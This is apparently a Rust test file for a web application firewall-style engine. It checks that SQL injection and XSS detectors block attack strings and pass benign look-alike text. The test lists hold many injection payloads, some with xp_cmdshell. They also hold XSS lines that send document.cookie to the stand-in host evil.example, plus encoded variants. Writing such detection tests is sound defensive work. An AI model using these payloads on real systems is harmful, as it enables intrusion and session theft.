//! The built-in SQLi and XSS models through the whole pipeline: known
//! attacks are blocked with the right type, known benign traps pass.

use rasp_core::{
    Check, Config, Level, Location, Rasp, Request, SecurityChecks, ValueDetector, Verdict,
};

#[path = "../benches/support/mod.rs"]
mod support;

use support::form_encode;

fn engine() -> Rasp {
    Rasp::new(Config {
        security_checks: SecurityChecks {
            path: Level::Off,
            flood: Level::Off,
            decoy: Level::Off,
            hpp: Level::Off,
            sqli: Level::Block,
            xss: Level::Block,
            command: Level::Block,
            ..Default::default()
        },
        ..Config::default()
    })
    .unwrap()
}

fn verdict(r: &Rasp, v: &str) -> Verdict {
    r.check_request(&Request::new(
        "GET",
        &format!("/p?v={}", form_encode(v)),
        "192.0.2.1".parse().unwrap(),
    ))
}

fn check_of(r: &Rasp, v: &str) -> Option<Check> {
    verdict(r, v).detection().map(|d| d.check)
}

const SQLI: &[&str] = &[
    // `@` then a name is a MySQL variable even after a space: `1 OR NULL`
    "1 or @ x",
    // one value of a list (INSERT ... VALUES, UPDATE ... SET), quotes balanced
    "x', (select password from users limit 1), 'y",
    "a', (SELECT @@version), 'b",
    "name', email=(select password from users where id=1), bio='x",
    // tautologies
    "' or 1=1--",
    "admin' or '1'='1",
    "1' OR 'a'='a' -- ",
    "\" or \"\"=\"",
    "1 or 1=1",
    // a LIKE pattern closed by the application's own quote
    "' or username like '%admin%",
    // appended to a real value, whose prose must not outvote the payload
    "Mozilla/5.0 (X11; Linux x86_64)' or 1=1--",
    "Room 12 (second floor)' union select 1,2--",
    // UNION
    "1 union select username, password from users",
    "-1' UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables--",
    "' union select 1,@@version,3#",
    // an implicit alias that qualifies a column: the grammatical reading
    // counts such a parse (0.9896 with the models of 2026-11-27, so it is
    // asked)
    "1 union select u.name from users u",
    // aliases the model scored 0.68: `UNION SELECT` sends it to the grammar
    "1 union select u.password from users u where u.id=1",
    // stacked
    "1; DROP TABLE users--",
    "'; exec xp_cmdshell('dir')--",
    // privilege statements (GRANT/REVOKE were not keywords before 2026-11-27:
    // `'; revoke select on users from public; --` scored 0.43)
    "'; revoke select on users from public; --",
    "x'; grant dba to scott--",
    // time-based
    "1' AND SLEEP(5)--",
    "1; WAITFOR DELAY '0:0:5'--",
    "1' and (select * from (select(sleep(10)))a)-- ",
    "1) or pg_sleep(5)--",
    // comment-obfuscated, case-mixed
    "1'/**/UnIoN/**/SeLeCt/**/1,2,3--",
    "1' oR '1'='1'/*",
    // error-based
    "1' and extractvalue(1,concat(0x7e,(select user()),0x7e))--",
    "1' AND updatexml(1,concat(0x7e,version()),1)--",
    // short authentication bypasses (MIN_SQLI_LEN is 4)
    "or 1=1",
    "'or'1=1",
    "' --",
    "admin'#",
    // ORDER BY column probe, whole statements
    "1 ORDER BY 7",
    "select @@version",
    "exec master..xp_cmdshell 'dir'",
];

const SQLI_ENCODED: &[&str] = &[
    "%27%20or%201%3D1--",
    "%2527%2520union%2520select%25201%252C2--",
    "&#39; or 1=1--",
    "\\u0027 or 1=1--",
    // quote look-alikes a database may convert to quotes
    "\u{2019} or \u{2018}1\u{2019}=\u{2019}1",
    "\u{2032} or \u{2032}1\u{2032}=\u{2032}1",
    "admin\u{02BC} or 1=1--",
    "＇ ｏｒ １＝１－－",
    "JyBvciAxPTEtLQ==", // base64 of "' or 1=1--"
];

const XSS: &[&str] = &[
    "<script>alert(1)</script>",
    // JavaScript's legacy octal escapes, as a script's string literal reads them
    "\\74script\\76alert(1)\\74/script\\76",
    "\\074img src=x onerror=alert(1)\\076",
    "<ScRiPt>alert(document.cookie)</sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<body onload=alert('xss')>",
    "\"><svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<a href=\"javascript:alert(document.domain)\">click</a>",
    "javascript:alert(1)//",
    "<details open ontoggle=confirm(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    // a bare base64 data URL: judged as the HTML it decodes to
    "data:text/html;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMik+",
    // a scriptable data URL whose base64 a filter lower-cased: the media
    // type decides
    "data:text/html;charset=utf-7;base64,pgltzybzcmm9eca+",
    "data:application/xhtml+xml,whatever",
    // script elements whose code is not an alert: the element decides
    "<script>var x = document.createElement('iframe');document.body.appendChild(x);var xhr = x.contentWindow.XMLHttpRequest();",
    "<script>new Image().src='https://evil.example/c?'+document.cookie",
    // event handlers on unknown elements, no-parenthesis calls and sinks
    "<x onxxx=1 onxxx=1",
    "<x/onpointerenter=1",
    "top[\"al\"+\"ert\"](1)",
    "alert?.(document.domain)",
    // a JavaScript string closed, then a call other than alert
    "'-fetch('//evil.example/'+document.cookie)-'",
    "x');new Image().src='//evil.example/?'+document.cookie;//",
    "<img src=x onerror=\"location='//evil.example/?'+document.cookie\">",
];

const XSS_ENCODED: &[&str] = &[
    // a script URL spelled with entities for the tabs and line breaks a
    // browser drops inside a scheme
    "<iframe src=j&NewLine;&Tab;a&NewLine;v&Tab;a&NewLine;s&Tab;c&NewLine;r&Tab;i&NewLine;p&Tab;t&NewLine;:alert(1)></iframe>",
    "<a href=\" &#x6A;ava&#x09;script:go()\">x</a>",
    // a tab or a line break inside the scheme, which browsers drop
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"java%0Ascript:alert(1)\">x</a>",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "&lt;img src=x onerror=alert(1)&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
    "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data%3Atext%2Fhtml%3Bbase64%2Cpgltzybzcmm9eca%2B",
    "data&colon;text/html,hi",
    "data\\u003atext/html,hi",
    // markup references without their `;`, as browsers and Python's
    // `html.unescape` decode them
    "&ltiframe src=//evil.example&gt",
    "&LTscript&GTalert(1)&LT/script&GT",
    // probes: `<` in a form no serializer writes, a closing tag alone
    "&#x0003C",
    "&#060;",
    "&LT;",
    "\\x3c",
    "%u003c",
    "</form>",
    "</textarea>",
];

const BENIGN: &[&str] = &[
    "O'Brien",
    // an at sign as a word of prose: SQL reads `@` only before a name
    "3 items @ 4.99",
    "reply @ 10, 11 or 12",
    "seats @ 1,2,3",
    // sed and regex substitutions: a group after `/` is no call
    "s/(a)/b/g",
    "s/(foo|bar)/baz/",
    "C:\\Users\\123\\Documents\\report.pdf",
    "Jane O'Brien-Smith",
    "The data: text/html response, then the JSON one",
    // labelled things with a remark in parentheses: not a subquery
    "Room 12 (second floor)",
    "Version 2.1 -> 2.2 (breaking)",
    "We need 2 (maybe 3) volunteers",
    "metadata:text/html,plain",
    "select your plan",
    "Please select your plan and drop me a line",
    "1-2-3",
    "<3",
    "I <3 this shop",
    "the '90s-style(retro) look",
    // prose the SQLi model flags without certainty (0.88-0.92) that reads as
    // SQL in no context an injection lands in: cleared by the grammar
    "Use the 'Delete' key to remove it",
    "She's 5'6\" and he's 6'1\"",
    "Size 10.5 or 11 -- whichever fits",
    // SQL only with an alias without `AS`, or by sqlparser's lax `SHOW`
    "Select 2 or 3 items from the list",
    "Show all results from 2019 or 2020",
    // no construct that runs script: `->`, assignments, curly apostrophes
    "Meeting moved: 3pm -> 4pm",
    "x=1; y=2; z=x+y",
    "I\u{2019}m sure it\u{2019}s fine, isn\u{2019}t it?",
    "a < b and c > d",
    "jane.doe+news@example.com",
    "https://example.com/search?q=shoes&page=2&sort=price",
    "{\"name\": \"widget\", \"qty\": 3, \"tags\": [\"a\", \"b\"]}",
    "It's 5 o'clock; let's go!",
    "Rock'n'roll & blues (live)",
    "union station, chicago",
    "order by price, then by date",
    "Don't delete my account, update it",
    "Please grant access to the team's drive",
    "The table's legs are 1/2\" thick",
    "5 * 3 = 15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "**bold** and [a link](https://example.com/docs?id=3)",
    "550e8400-e29b-41d4-a716-446655440000",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
    "Hello, my name is D'Arcy and I like SQL; it's great",
    "x >= 10 && y <= 5",
    "Ben & Jerry's",
    // short values and apostrophes before SQL words
    "d'Or",
    "Ballon d'Or",
    "L'Union",
    "L'Or Espresso",
    "5' 10\"",
    "12\" pizza",
    "well--maybe",
    "it's 'or' not 'and'",
    // addresses and prose with a word's apostrophe: a letter of any script
    // after it, a `%` or a number in the band where the grammar is asked
    "Rue de l'\u{c9}glise 7, 75001 Paris",
    "Chemin de l'\u{c9}tang 3, 1200 Gen\u{e8}ve",
    "It's 50% cotton and 50% polyester",
    "It's 50 percent cotton and 50 percent polyester",
    "user's name = 'John' and age > 30",
    // `Union Select` in a name: sent to the grammar, which clears it
    "Navy Federal Credit Union Select Checking",
    // what rich-text editors send
    "<p style=\"text-align: center;\"><span style=\"color: #e03e2d;\">Limited offer</span></p>",
    "<img src=\"https://cdn.example.com/img/banner-2026.png\" alt=\"Winter banner\" width=\"600\" height=\"200\">",
    "<p>Price: <s>49,90 \u{20ac}</s> <b>39,90 \u{20ac}</b></p>",
    "<video controls src=\"https://cdn.example.com/v/intro.mp4\"></video>",
    // file names with the copy number a browser adds, and paths
    "invoice (1).pdf",
    "invoice(1).pdf",
    "report-final(2).xlsx",
    "photo (3).jpg",
    "C:\\Users\\jane\\Documents\\invoice (1).pdf",
    "/home/bob/Downloads/report-final(2).xlsx",
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
    // prose the SQLi model was certain of: a height in feet and inches, and
    // Markdown headings (from `#` on, a MySQL comment that changes nothing)
    "He's 5'11\" and weighs 180 lbs",
    "# Title",
    "# Heading 1",
    "## Installation",
    // German quotation marks: `„` folded like `“`, so the quotes pair up
    "\u{201e}Guten Tag\u{201c}, sagte er",
    "Sie sagte \u{201a}vielleicht\u{2018} und ging",
    // elements no markup language knows, without attributes: code and
    // placeholders; and a CSS colour
    "C++ #include <vector>",
    "<unknown>",
    "List<String> names = new ArrayList<>();",
    "#FFAA00",
    // a contraction's apostrophe first, then a quoted phrase
    "Don't 'select all' -- it's slow",
    "It's '50/50' really",
    // `<` and `>` as pages and JSON escape them, an opening tag alone, and
    // URL parameters whose names start like a reference
    "&lt;",
    "a &lt; b",
    "&#60;3",
    "&#x3e;",
    "\\u003c",
    "<br>",
    "https://shop.example/p?id=1&gtin=4006381333931&ltv=3",
];

#[test]
fn sqli_attacks_are_blocked() {
    let r = engine();
    let missed: Vec<&str> = SQLI
        .iter()
        .chain(SQLI_ENCODED)
        .copied()
        .filter(|v| check_of(&r, v).is_none())
        .collect();
    assert!(missed.is_empty(), "missed SQLi: {missed:#?}");
    let wrong: Vec<(&str, Option<Check>)> = SQLI
        .iter()
        .map(|v| (*v, check_of(&r, v)))
        .filter(|(_, c)| !matches!(c, Some(Check::Sqli) | Some(Check::Command)))
        .collect();
    assert!(wrong.is_empty(), "{wrong:?}");
}

#[test]
fn xss_attacks_are_blocked() {
    let r = engine();
    let missed: Vec<&str> = XSS
        .iter()
        .chain(XSS_ENCODED)
        .copied()
        .filter(|v| check_of(&r, v).is_none())
        .collect();
    assert!(missed.is_empty(), "missed XSS: {missed:#?}");
    assert_eq!(
        check_of(&r, "<img src=x onerror=alert(1)>"),
        Some(Check::Xss)
    );
}

#[test]
fn benign_traps_pass() {
    let r = engine();
    let blocked: Vec<(&str, Option<Check>)> = BENIGN
        .iter()
        .map(|v| (*v, check_of(&r, v)))
        .filter(|(_, c)| c.is_some())
        .collect();
    assert!(blocked.is_empty(), "false alarms: {blocked:#?}");
}

#[test]
fn a_probe_is_reported_as_received() {
    let r = engine();
    let v = verdict(&r, "&#x0003C");
    let d = v.detection().expect("blocked");
    assert_eq!((d.check, d.payload.as_str()), (Check::Xss, "&#x0003C"));
}

#[test]
fn detection_reports_location_and_name() {
    let r = engine();
    let req = Request::new("POST", "/api", "192.0.2.1".parse().unwrap())
        .with_header("Content-Type", "application/json")
        .with_body(
            r#"{"user": {"name": "x' union select password from users--"}}"#,
            false,
        );
    let v = r.check_request(&req);
    let d = v.detection().expect("blocked");
    assert_eq!(
        (d.check, d.location, d.name.as_str()),
        (Check::Sqli, Location::JsonValues, "user.name")
    );
}

/// A password field's value is compared as a string: a generated password
/// that cuts the query with `#` after an expression is no attack there, and
/// still one in any other field; an injection that leaves the string, or
/// one that works on a number compared bare, is blocked there too.
#[test]
fn a_password_field_is_judged_as_a_string() {
    let r = engine();
    let ip = "192.0.2.1".parse().unwrap();
    let form = |body: &str| {
        Request::new("POST", "/login", ip)
            .with_header("Content-Type", "application/x-www-form-urlencoded")
            .with_body(body.to_string(), false)
    };
    let json = |body: &str| {
        Request::new("POST", "/login", ip)
            .with_header("Content-Type", "application/json")
            .with_body(body.to_string(), false)
    };
    let pw = "5#oZX2sWIL";
    for req in [
        form(&format!("user=jane&password={}", form_encode(pw))),
        form(&format!("user%5Bpassword%5D={}", form_encode(pw))),
        json(&format!(r#"{{"user": "jane", "password": "{pw}"}}"#)),
        json(&format!(r#"{{"user": {{"newPassword": "{pw}"}}}}"#)),
        Request::new("GET", &format!("/login?pwd={}", form_encode(pw)), ip),
    ] {
        assert!(!r.check_request(&req).is_block(), "{req:?}");
    }
    for req in [
        // The same value in a field that may be a number compared bare.
        form(&format!("user=jane&pass_id={}", form_encode(pw))),
        json(&format!(r#"{{"id": "{pw}"}}"#)),
        // An array item has no field name.
        json(&format!(r#"{{"password": ["{pw}"]}}"#)),
        // Judged once as a password, the text is judged again elsewhere.
        form(&format!("password={0}&id={0}", form_encode(pw))),
        form(&format!("id={0}&password={0}", form_encode(pw))),
        // So in a JSON body, where the value next to the password's is
        // the same text (a repeated value is otherwise settled by one
        // comparison with the last judged).
        json(&format!(r#"{{"password": "{pw}", "id": "{pw}"}}"#)),
        json(&format!(
            r#"{{"user": {{"password": "{pw}"}}, "ids": ["{pw}", "{pw}"]}}"#
        )),
        // Injections in a password field.
        form(&format!("password={}", form_encode("' or 1=1--"))),
        form(&format!("password={}", form_encode("x' or 'a'='a"))),
        form(&format!("password={}", form_encode("1 or 1=1"))),
        form(&format!("password={}", form_encode("1)+(1)#aaaaa"))),
        json(r#"{"password": "' union select password from users--"}"#),
    ] {
        let v = r.check_request(&req);
        assert_eq!(v.detection().map(|d| d.check), Some(Check::Sqli), "{req:?}");
    }
}

/// A paragraph of a contract over 512 bytes that the SQLi model flags is
/// read by the grammar (it was judged on its score until the fifteenth
/// session); the readings of a request read 2,048 bytes at most, so a
/// second such paragraph in the same request is judged on its score.
#[test]
fn long_borderline_prose_is_read_within_a_byte_budget() {
    let r = engine();
    let ip = "192.0.2.1".parse().unwrap();
    let a = "7.3 Termination. (a) Either party may terminate this Agreement for convenience on ninety days written notice to the other party, and the remainder of this Agreement will continue in full force and effect until that date. (b) Notwithstanding the foregoing, if applicable law prohibits or restricts the Customer from fully and/or partially complying with Sections 4 and/or 5, or prevents the enforceability of either of those Sections, this Agreement will terminate at once and the Customer must stop any use of the Service and delete all copies of the Data that are in its possession or control.";
    let b = "C. The Supplier grants the Customer a non-exclusive licence, subject to third party rights, under claims that are or would be infringed by the making, using, selling, importing, exporting or disposal of the Product or any portion thereof. No licence is granted under this Paragraph C: (1) for any code that the Supplier deletes from the Product (or any portion thereof) before delivery; (2) for any changes made to the Product (or any portion thereof) by any other person; or (3) separate from the Product (or portions thereof) delivered by the Supplier.";
    assert!(a.len() > 512 && b.len() > 512);
    let sqli = rasp_core::ml::builtin().0;
    for v in [a, b] {
        let score = sqli.score(v);
        assert!((0.5..0.99).contains(&score), "{score} {v}");
        assert!(!sqli.confirm(v, score), "{v}");
    }
    let get = |q: &str| Request::new("GET", &format!("/p?{q}"), ip);
    let one = format!("a={}", form_encode(a));
    assert!(!r.check_request(&get(&one)).is_block());
    // Three paragraphs: 1,740 bytes read, then one over what is left.
    let c = format!("{a} {b}");
    let three = format!(
        "a={}&b={}&c={}",
        form_encode(a),
        form_encode(b),
        form_encode(&c)
    );
    let v = r.check_request(&get(&three));
    let d = v.detection().expect("the third is judged on its score");
    assert_eq!((d.check, d.name.as_str()), (Check::Sqli, "c"));
}

/// The grammatical second reading is asked once a request: a second
/// borderline value in the same request is judged on its score, so that a
/// request of many such values cannot cost many parses.
#[test]
fn the_grammar_reads_four_borderline_values_a_request() {
    let r = engine();
    let ip = "192.0.2.1".parse().unwrap();
    // Prose the SQLi model flags and the grammar clears, one per parameter.
    let prose = [
        "Use the 'Delete' key to remove it",
        "She's 5'6\" and he's 6'1\"",
        "Size 10.5 or 11 -- whichever fits",
        "Don't 'select all' -- it's slow",
        "It's '50/50' really",
    ];
    let query = |n: usize| {
        let pairs: Vec<String> = prose[..n]
            .iter()
            .enumerate()
            .map(|(i, v)| format!("p{i}={}", form_encode(v)))
            .collect();
        format!("/p?{}", pairs.join("&"))
    };
    let four = query(4);
    assert!(!r.check_request(&Request::new("GET", &four, ip)).is_block());
    let v = r.check_request(&Request::new("GET", &query(5), ip));
    let d = v
        .detection()
        .expect("the fifth borderline value is judged on its score");
    assert_eq!(
        (d.check, d.location, d.name.as_str()),
        (Check::Sqli, Location::QsValues, "p4")
    );
    // A certain score needs no reading: an injection after cleared values
    // is blocked as before.
    let attack = format!("{four}&c={}", form_encode("' or 1=1 --"));
    assert!(r
        .check_request(&Request::new("GET", &attack, ip))
        .is_block());
}
